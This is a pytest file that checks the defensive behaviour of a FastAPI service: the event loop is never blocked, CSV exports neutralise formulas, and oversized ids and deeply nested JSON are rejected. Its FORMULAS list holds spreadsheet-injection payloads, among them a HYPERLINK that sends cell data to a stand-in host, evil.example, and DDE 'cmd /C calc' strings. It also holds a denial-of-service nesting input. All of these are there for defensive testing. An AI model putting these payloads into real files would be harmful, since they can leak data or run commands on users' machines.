"""What an attacker or a careless client sends: nothing blocks the event loop, exports run no
formulas, and no bad value reaches the database to fail there after part of a file is written."""

import asyncio
import csv
import io
import re
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import event, func, select

from app.db import Database
from app.organizations.models import Organization
from matching.embeddings import TfidfEmbedder
from tests.helpers import bodies, organization, stored_chain


@pytest.fixture
def on_the_loop(db: Database, monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """What ran a query, a commit or the model on the event loop's own thread (a call that
    blocks there stalls every request of the process, /health included)."""
    seen: list[str] = []

    def check(what: str) -> None:
        try:
            asyncio.get_running_loop()
        except RuntimeError:
            return  # a worker thread: fine
        seen.append(what)

    def statement(*args: Any) -> None:
        check(str(args[2])[:80])

    def commit(*_: Any) -> None:
        check("COMMIT")

    embed = TfidfEmbedder.embed

    def guarded(self: TfidfEmbedder, texts: Any) -> Any:
        check("embedding")
        return embed(self, texts)

    monkeypatch.setattr(TfidfEmbedder, "embed", guarded)
    event.listen(db.engine, "before_cursor_execute", statement)
    event.listen(db.engine, "commit", commit)
    yield seen
    event.remove(db.engine, "before_cursor_execute", statement)
    event.remove(db.engine, "commit", commit)


def _paths(app: FastAPI, chain: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """Every operation of the API document, with ids of stored records filled in, and the
    pages."""
    values = {"resource": "organizations", "external_id": "crm-1"}
    for path, operations in app.openapi()["paths"].items():
        filled = re.sub(r"\{(\w+)\}", lambda m: values.get(m.group(1), str(chain["id"])), path)
        for method in operations:
            yield method.upper(), filled
    pages = ["/ui/load", "/ui/needs", f"/ui/needs/{chain['need']['id']}", "/ui/search?text=CNC"]
    yield from (("GET", page) for page in [*pages, f"/ui/partners/{chain['id']}"])
    yield "POST", f"/ui/needs/{chain['need']['id']}/asks"


def test_no_route_or_middleware_blocks_the_event_loop(
    app: FastAPI, client: TestClient, admin: dict[str, str], on_the_loop: list[str]
) -> None:
    chain = stored_chain(client, admin)
    chain["id"] = chain["organization"]["id"]
    client.post("/ui/login", data={"api_key": admin["Authorization"][7:]})
    answered = set()
    for method, path in _paths(app, chain):
        body: dict[str, Any] | None = {} if method != "GET" else None
        answered.add(client.request(method, path, headers=admin, json=body).status_code)
    assert 200 in answered  # the walk reached the routes, not only the door
    imported = client.post(
        "/v1/import/organizations",
        content="external_id,name,kind\ncrm-9,Acme,employer\n",
        headers=admin | {"Content-Type": "text/csv", "Idempotency-Key": "k-1"},
    )
    assert imported.status_code == 200, imported.text
    match = client.post("/v1/matches", json={"text": "CNC machining mentors"}, headers=admin)
    assert match.status_code == 200, match.text
    assert on_the_loop == []


FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\tTabbed",
    "'=already quoted by someone",
    "'plain apostrophe",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_an_export_runs_no_formula_and_imports_back_exactly(
    text: str, client: TestClient, admin: dict[str, str]
) -> None:
    body = organization(external_id="crm-1", name="Acme", description=text, sectors=[text])
    assert client.post("/v1/organizations", json=body, headers=admin).status_code == 201
    exported = client.get("/v1/export/organizations.csv", headers=admin).text
    [row] = list(csv.DictReader(io.StringIO(exported)))
    for cell in (row["description"], row["sectors"]):
        # A spreadsheet reads a cell starting with one of these as a formula.
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    report = client.post(
        "/v1/import/organizations", content=exported, headers=admin | {"Content-Type": "text/csv"}
    ).json()
    assert (report["unchanged"], report["rejected"]) == (1, [])
    stored = client.get("/v1/organizations/external/crm-1", headers=admin).json()
    assert (stored["description"], stored["sectors"]) == (text, [text.strip()])


def test_a_bare_carriage_return_survives_the_round_trip(
    client: TestClient, admin: dict[str, str]
) -> None:
    text = "line one\rline two\r\nline three"
    body = organization(external_id="crm-1", description=text)
    assert client.post("/v1/organizations", json=body, headers=admin).status_code == 201
    exported = client.get("/v1/export/organizations.csv", headers=admin).text
    report = client.post(
        "/v1/import/organizations", content=exported, headers=admin | {"Content-Type": "text/csv"}
    ).json()
    assert (report["rows"], report["unchanged"], report["rejected"]) == (1, 1, [])


def _count(db: Database) -> int:
    with db.sessionmaker() as session:
        return session.scalar(select(func.count()).select_from(Organization)) or 0


def test_an_id_past_the_database_is_a_rejected_row_not_a_server_error(
    db: Database, client: TestClient, admin: dict[str, str]
) -> None:
    lines = [f",crm-{i},Org {i},employer" for i in range(600)] + ["2147483648,,Too big,employer"]
    response = client.post(
        "/v1/import/organizations",
        content="id,external_id,name,kind\n" + "\n".join(lines) + "\n",
        headers=admin | {"Content-Type": "text/csv"},
    )
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["created"], report["rejected_rows"]) == (600, 1)
    assert report["rejected"][0]["field"] == "id"
    assert _count(db) == 600


def test_a_deeply_nested_line_or_body_is_refused_plainly(
    db: Database, client: TestClient, admin: dict[str, str]
) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    line = '{"name": "Deep", "kind": "employer", "sectors": ' + deep + "}\n"
    response = client.post(
        "/v1/import/organizations",
        content='{"name": "Fine", "kind": "employer"}\n' + line,
        headers=admin | {"Content-Type": "application/x-ndjson"},
    )
    assert response.status_code == 200, response.text
    assert response.json()["rejected"][0]["line"] == 2
    assert _count(db) == 1
    body = client.post(
        "/v1/organizations",
        content='{"name": "Deep", "kind": "employer", "sectors": ' + deep[:20_000] + "}",
        headers=admin | {"Content-Type": "application/json"},
    )
    assert 400 <= body.status_code < 500, body.text
    assert body.headers["content-type"].startswith("application/problem+json")


@pytest.mark.parametrize("field", ["starts_on", "ends_on"])
@pytest.mark.parametrize("value", ["0001-01-01", "9999-12-31"])
def test_dates_are_bounded_like_timestamps(
    field: str, value: str, client: TestClient, admin: dict[str, str]
) -> None:
    chain = stored_chain(client, admin)
    body = bodies(chain)["engagements"] | {"status": "accepted", field: value}
    body.pop("starts_on" if field == "ends_on" else "ends_on", None)
    response = client.post("/v1/engagements", json=body, headers=admin)
    assert response.status_code == 422, response.text
    assert [e["field"] for e in response.json()["errors"]] == [field]
    load = client.get(f"/v1/organizations/{chain['organization']['id']}/load", headers=admin)
    assert load.status_code == 200


@pytest.mark.parametrize(
    "path", ["/v1/partners/load", "/v1/needs", "/v1/organizations", "/v1/engagements"]
)
@pytest.mark.parametrize("cursor", ["xyz", "aWQ6eHl6", "b2Zmc2V0OjA", "aWQ6OTk5OTk5OTk5OTk5"])
def test_a_bad_cursor_is_named_in_plain_words(
    path: str, cursor: str, client: TestClient, admin: dict[str, str]
) -> None:
    response = client.get(path, params={"cursor": cursor}, headers=admin)
    assert response.status_code == 422
    [error] = response.json()["errors"]
    assert error["field"] == "cursor"
    assert error["message"].startswith("this cursor is not one we gave out")
